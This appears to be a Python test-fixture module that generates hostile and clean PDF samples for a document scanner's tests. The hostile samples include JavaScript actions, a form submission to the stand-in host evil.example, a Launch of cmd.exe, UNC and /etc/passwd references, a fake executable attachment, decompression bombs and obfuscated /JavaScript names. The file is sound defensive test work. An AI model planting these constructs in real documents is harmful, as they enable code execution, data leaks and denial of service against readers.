"""PDFs that act, reach out, carry, swell or break, and sound ones that must not be mistaken for them."""

import io
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pikepdf
from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import NoEncryption, pkcs12
from cryptography.x509.oid import NameOID
from pikepdf import Array, Dictionary, Name, Pdf, String
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import signers

from tests.applications.hostile_files import PDF, SCRIPT_PAGE, Sample

URI = Name.URI
HONEST_ADDRESSES = [
    b"https://www.example.go.th/a?b=c:d",
    b"HTTP://example.com",
    b"mailto:mali@example.com",
    b"tel:+6621234567",
    b"www.example.com/x?at=10:30",
    b"#page=2",
    b"",
]
EVIL_ADDRESSES = [
    b"file:///etc/passwd",
    rb"\\evil.example\share",
    b"//evil.example/share",
    b"JaVaScRiPt:alert(1)",
    b"data:text/html;base64,PGI+",
    b"\xfe\xff\0f\0i\0l\0e\0:\0/\0/",
    b"ms-msdt:/id",
    b" \n\x01file:x",
]


def pdf(change: Callable[[Pdf], None] | None = None, pages: int = 1, **saving: object) -> bytes:
    """A small sound PDF with a drawn line of text per page, after `change` has done its worst."""
    document = Pdf.new()
    font = document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        page = document.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = document.make_stream(f"BT /F1 24 Tf 72 700 Td (Lease, page {number + 1}) Tj ET".encode())
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, **{"static_id": True, **saving})  # type: ignore[arg-type]
    return target.getvalue()


def script(text: str = "app.alert(1)") -> Dictionary:
    """A JavaScript action."""
    return Dictionary(S=Name.JavaScript, JS=String(text))


def _open_action(action: Dictionary) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(action)

    return change


def _link(action: Dictionary) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        document.pages[0].obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 690, 300, 720]), A=action)]
        )

    return change


def _annotation(subtype: Name, **entries: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        entry = Dictionary({"/Type": Name.Annot, "/Subtype": subtype, "/Rect": Array([0, 0, 99, 99])})
        for key, value in entries.items():
            entry[f"/{key}"] = value
        document.pages[0].obj.Annots = Array([document.make_indirect(entry)])

    return change


def _named_script(document: Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script()])))


def _page_event(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit])))


def _script_in_a_stream_behind_a_chain(document: Pdf) -> None:
    hidden = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"this.submitForm('https://evil.example')"))
    chain = Dictionary(S=Name.GoTo, D=Array([]), Next=Array([Dictionary(S=Name.Named, N=Name.NextPage, Next=hidden)]))
    _link(chain)(document)


def _script_nobody_refers_to(document: Pdf) -> None:
    document.Root.Unused = document.make_indirect(Array([Array([Dictionary(Deep=Array([script()]))])]))


def _script_in_a_form_field(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("amount"), AA=Dictionary(K=script("event.value=0")))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def _xfa(document: Pdf) -> None:
    packet = document.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)


def _embedded(document: Pdf) -> None:
    document.attachments["invoice.exe"] = b"MZ" + bytes(64)


def _attached_to_a_page(document: Pdf) -> None:
    content = document.make_stream(b"MZ" + bytes(64), Type=Name.EmbeddedFile)
    specification = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=content))
    _annotation(Name.FileAttachment, FS=specification)(document)


def _portfolio(document: Pdf) -> None:
    document.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)


def _external_stream(document: Pdf) -> None:
    stream = document.make_stream(b"", F=Dictionary(Type=Name.Filespec, F=String(r"\\evil.example\share\page")))
    document.pages[0].obj.Contents = stream


def _external_form(document: Pdf) -> None:
    reference = Dictionary(F=Dictionary(Type=Name.Filespec, F=String("/etc/passwd")), Page=0)
    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), Ref=reference)
    document.pages[0].obj.Resources.XObject = Dictionary(X=form)


def _base_address(document: Pdf) -> None:
    document.Root.URI = Dictionary(Base=String("file://evil.example/share/"))


def _bomb(document: Pdf) -> None:
    packer = zlib.compressobj(1)
    million = b" " * 1_000_000
    packed = b"".join(packer.compress(million) for _ in range(200)) + packer.flush()
    document.pages[0].obj.Contents = pikepdf.Stream(document, packed, Filter=Name.FlateDecode)


def _bomb_in_a_bomb(document: Pdf) -> None:
    inner = zlib.compress(bytes(100_000_000), 1)
    filters = Array([Name.FlateDecode, Name.FlateDecode])
    document.pages[0].obj.Contents = pikepdf.Stream(document, zlib.compress(inner, 9), Filter=filters)


def _giant_scan(document: Pdf) -> None:
    entries = Dictionary(Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=8, ColorSpace=Name.DeviceRGB)
    entries.Filter = Name.FlateDecode
    document.pages[0].obj.Resources.XObject = Dictionary(X=document.make_stream(zlib.compress(bytes(9)), entries))


def drawings_in_drawings(document: Pdf) -> None:
    """A billion boxes in a few hundred bytes: each form draws the next one ten times."""
    drawing = document.make_stream(b"0 0 9 9 re f", Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    for _ in range(9):
        again = document.make_stream(b"/X Do " * 10, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        again.Resources = Dictionary(XObject=Dictionary(X=drawing))
        drawing = again
    document.pages[0].obj.Resources.XObject = Dictionary(X=drawing)
    document.pages[0].obj.Contents = document.make_stream(b"/X Do")


def _endless_kids(document: Pdf) -> None:
    document.Root.Pages.Kids.append(document.Root.Pages)


def _ordinary_form_and_links(document: Pdf) -> None:
    page = document.pages[0].obj
    document.Root.OpenAction = Array([page, Name.Fit])
    look = document.make_stream(b"BT /F1 12 Tf 2 4 Td (Mali) Tj ET", Subtype=Name.Form, BBox=Array([0, 0, 200, 20]))
    look.Resources = page.Resources
    entry = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Mali"))
    entry.Rect, entry.AP = Array([72, 600, 272, 620]), Dictionary(N=look)
    field = document.make_indirect(entry)
    links = [
        Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(S=Name.URI, URI=String(address)))
        for address in HONEST_ADDRESSES
    ]
    page.Annots = Array([field, *links])
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


def _first_action_opens_a_page(document: Pdf) -> None:
    target = Dictionary(Type=Name.Action, S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]))
    document.Root.OpenAction = target
    # Names that mean something elsewhere are only names of fonts here.
    fonts = document.pages[0].obj.Resources.Font
    fonts.JS, fonts.AA, fonts.EF = fonts.F1, fonts.F1, fonts.F1


def _nothing_and_names_in_tis_620() -> bytes:
    """As old Thai programs write: names that are not UTF-8, and references to nothing."""

    def change(document: Pdf) -> None:
        document.Root.Gone = document.make_indirect(String("gone"))
        document.pages[0].obj.Resources.Font.F1.BaseFont = Name.AAAAA
        document.Root.StructTreeRoot = Dictionary({"/Type": Name.StructTreeRoot, "/K": Dictionary(S=Name.AAAAA)})
        document.Root.AAAAA = Array([Dictionary(AAAAA=Name.AAAAA)])

    return pdf(change).replace(b"/AAAAA", b"/\xa1\xcd\xd2\xa7\xe0").replace(b"(gone)", b"null  ")


def _signed() -> bytes:
    """A PDF that somebody signed: a second revision is appended, nothing before it changes."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "มะลิ ตัวอย่าง")])
    start = datetime(2026, 1, 1, tzinfo=UTC)
    draft = x509.CertificateBuilder(name, name, key.public_key(), 1, start, start + timedelta(days=900))
    sealed = pkcs12.serialize_key_and_certificates(None, key, draft.sign(key, SHA256()), None, NoEncryption())
    signer = signers.SimpleSigner.load_pkcs12_data(sealed, other_certs=[])
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf()))
    signed = signers.sign_pdf(writer, signers.PdfSignatureMetadata(field_name="Signature"), signer=signer)
    return bytes(signed.getvalue())


def _hidden_in_an_object_stream() -> bytes:
    data = pdf(_open_action(script()), object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in data
    return data


def _name_in_disguise() -> bytes:
    data = pdf(_open_action(Dictionary(S=Name.JavaScriptXX, JSXX=String("app.alert(1)"))))
    return data.replace(b"/JavaScriptXX", b"/Java#53cript").replace(b"/JSXX", b"/J#53")


def _moved_by_a_prefix() -> bytes:
    return SCRIPT_PAGE + b"\n" + pdf()


def _with_a_tail() -> bytes:
    return pdf() + SCRIPT_PAGE * 20


def _with_a_page_in_its_first_comment() -> bytes:
    data = pdf()
    header, rest = data.split(b"\n", 1)
    return header + b"\n%" + SCRIPT_PAGE + b"\n" + rest


def _deep() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 100_000 + b"]" * 100_000)


def led_by_a_link(address: bytes) -> bytes:
    """A PDF with one link."""
    return pdf(_link(Dictionary(S=URI, URI=String(address))))


HOSTILE_PDFS = [
    Sample("pdf-open-action-script", PDF, lambda: pdf(_open_action(script())), "scripts"),
    Sample(
        "pdf-open-action-web-page",
        PDF,
        lambda: pdf(_open_action(Dictionary(S=URI, URI=String("https://evil.example")))),
        "scripts",
    ),
    Sample("pdf-named-script", PDF, lambda: pdf(_named_script), "scripts"),
    Sample("pdf-page-event", PDF, lambda: pdf(_page_event), "scripts"),
    Sample("pdf-script-stream-behind-next", PDF, lambda: pdf(_script_in_a_stream_behind_a_chain), "scripts"),
    Sample("pdf-script-nobody-refers-to", PDF, lambda: pdf(_script_nobody_refers_to), "scripts"),
    Sample("pdf-script-in-form-field", PDF, lambda: pdf(_script_in_a_form_field), "scripts"),
    Sample("pdf-script-in-object-stream", PDF, _hidden_in_an_object_stream, "scripts"),
    Sample("pdf-script-name-in-hex", PDF, _name_in_disguise, "scripts"),
    Sample("pdf-launch", PDF, lambda: pdf(_link(Dictionary(S=Name.Launch, F=String("cmd.exe")))), "reaches_out"),
    Sample(
        "pdf-submit-form",
        PDF,
        lambda: pdf(_link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
        "reaches_out",
    ),
    Sample("pdf-import-data", PDF, lambda: pdf(_link(Dictionary(S=Name.ImportData, F=String("x.fdf")))), "reaches_out"),
    Sample(
        "pdf-goto-remote-unc",
        PDF,
        lambda: pdf(_link(Dictionary(S=Name.GoToR, F=String(r"\\evil.example\s\x.pdf")))),
        "reaches_out",
    ),
    Sample("pdf-goto-embedded", PDF, lambda: pdf(_link(Dictionary(S=Name.GoToE, D=Array([])))), "reaches_out"),
    Sample("pdf-unknown-action", PDF, lambda: pdf(_link(Dictionary(Type=Name.Action, S=Name.Detonate))), "reaches_out"),
    Sample("pdf-link-to-a-file", PDF, lambda: led_by_a_link(EVIL_ADDRESSES[0]), "reaches_out"),
    Sample("pdf-base-address", PDF, lambda: pdf(_base_address), "reaches_out"),
    Sample("pdf-external-stream", PDF, lambda: pdf(_external_stream), "reaches_out"),
    Sample("pdf-external-form", PDF, lambda: pdf(_external_form), "reaches_out"),
    Sample("pdf-embedded-file", PDF, lambda: pdf(_embedded), "attachments"),
    Sample("pdf-file-attached-to-page", PDF, lambda: pdf(_attached_to_a_page), "attachments"),
    Sample("pdf-portfolio", PDF, lambda: pdf(_portfolio), "attachments"),
    Sample("pdf-xfa", PDF, lambda: pdf(_xfa), "xfa"),
    Sample("pdf-rich-media", PDF, lambda: pdf(_annotation(Name.RichMedia)), "media"),
    Sample("pdf-3d", PDF, lambda: pdf(_annotation(Name("/3D"))), "media"),
    Sample(
        "pdf-rendition",
        PDF,
        lambda: pdf(_annotation(Name.Screen, A=Dictionary(S=Name.Rendition, OP=0))),
        "media",
    ),
    Sample("pdf-password-to-open", PDF, lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "locked"),
    Sample("pdf-password-to-change", PDF, lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), "locked"),
    Sample("pdf-flate-bomb-200-mb", PDF, lambda: pdf(_bomb), "swollen"),
    Sample("pdf-bomb-in-a-bomb", PDF, lambda: pdf(_bomb_in_a_bomb), "swollen"),
    Sample("pdf-giant-scan", PDF, lambda: pdf(_giant_scan), "swollen"),
    Sample("pdf-truncated", PDF, lambda: pdf()[:-300], "damaged_pdf"),
    Sample("pdf-header-only", PDF, lambda: b"%PDF-1.7\n%%EOF\n", "damaged_pdf"),
    Sample("pdf-zeros-inside", PDF, lambda: pdf()[:40] + bytes(400) + pdf()[440:], "damaged_pdf"),
    Sample("pdf-no-pages", PDF, lambda: pdf(pages=0), "damaged_pdf"),
    Sample("pdf-endless-kids", PDF, lambda: pdf(_endless_kids), "damaged_pdf"),
    Sample("pdf-deep-nesting", PDF, _deep, "damaged_pdf"),
    Sample("pdf-after-html", PDF, _moved_by_a_prefix, "mixed"),
    Sample("pdf-before-html", PDF, _with_a_tail, "mixed"),
    Sample("pdf-around-html", PDF, _with_a_page_in_its_first_comment, "mixed"),
    Sample("pdf-101-pages", PDF, lambda: pdf(pages=101), "too_many_pages"),
]

CLEAN_PDFS = [
    Sample("pdf-plain", PDF, pdf, "clean"),
    Sample("pdf-21-pages", PDF, lambda: pdf(pages=21), "clean"),
    Sample("pdf-form-and-web-links", PDF, lambda: pdf(_ordinary_form_and_links), "clean"),
    Sample("pdf-opens-at-page-one", PDF, lambda: pdf(_first_action_opens_a_page), "clean"),
    Sample("pdf-object-streams", PDF, lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "clean"),
    Sample("pdf-nothing-and-tis-620", PDF, _nothing_and_names_in_tis_620, "clean"),
    Sample("pdf-signed", PDF, _signed, "clean"),
    Sample("pdf-linearized", PDF, lambda: pdf(linearize=True), "clean"),
    Sample("pdf-byte-order-mark", PDF, lambda: b"\xef\xbb\xbf" + pdf(), "clean"),
    Sample("pdf-blank-lines-around", PDF, lambda: b"\r\n" + pdf() + b"\r\n\0\0", "clean"),
]
